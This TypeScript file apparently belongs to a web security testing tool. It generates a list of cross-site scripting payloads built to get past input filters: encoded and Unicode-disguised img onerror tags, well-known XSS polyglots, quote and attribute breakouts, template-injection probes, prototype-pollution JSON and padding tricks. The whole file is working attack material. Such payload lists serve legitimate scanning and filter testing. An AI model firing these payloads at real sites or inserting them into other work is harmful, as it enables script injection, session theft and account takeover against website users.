import type { Payloads } from '../payloads';
import { decimal, decimalLong, hexadecimal } from './encode';

/** Encodings, polyglots and the like. */
export const disguises: Payloads = (call, url) => {
  const img = `<img src=x onerror=${call}>`;
  return [
    decimal(img),
    decimalLong(img),
    hexadecimal(img),
    img.replace('<', '&lt').replace('>', '&gt'),
    img.replace('<', '&LT;'),
    img.replace('<', '&#60').replace('>', '&#62'),
    img.replace('<', '&amp;lt;').replace('>', '&amp;gt;'),
    encodeURIComponent(img),
    img.replace('<', '%3C').replace('>', '%3E'),
    img.replace('<', '\\u003c').replace('>', '\\u003e'),
    img.replace('<', '\\x3c').replace('>', '\\x3e'),
    img.replace('<', '+ADw-').replace('>', '+AD4-'),
    img.replace('<', '\u00BC').replace('>', '\u00BE'),
    img.replace('<', '\uFE64').replace('>', '\uFE65'),
    img.replace('<', '\u2039').replace('>', '\u203A'),
    img.replace('img', 'i\u0000mg'),
    img.replace('img', 'i\u200Bmg'),
    `\uFEFF${img}`,
    `\u202E${img}\u202C`,
    `\uD800${img}\uDC00`,
    `\u001B[31m${img}`,
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${call}//'>`,
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=' +
      call +
      ' )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=' +
      call +
      '//>\\x3e',
    `">><marquee>${img}</marquee>"></plaintext\\></|\\><plaintext/onmouseover=${call}><script>${call}</script>@gmail.com<isindex formaction=javascript:${call} type=submit>'-->"></script><script>${call}</script>`,
    '" onclick=' + call + "//<button ' onclick=" + call + '//> */ ' + call + '//',
    `'"><img src=x onerror=${call}>{{7*7}}\${7*7}<%= 7*7 %>`,
    `';${call};//`,
    `";${call};//`,
    '`;' + call + ';//',
    `'-${call}-'`,
    `\\'-${call}//`,
    `{"__proto__":{"innerHTML":"${img}"}}`,
    `<x onclick=${call} src="${url}" href="javascript:${call}" style="x:url(${url})">x</x>`,
    `${'A'.repeat(2000)}${img}`,
    `${img}${'\n'.repeat(200)}${img}`,
    `<img src=x onerror=${call} ${'a=b '.repeat(400)}>`,
    `<${'a'.repeat(2000)} onclick=${call}>x`,
  ];
};
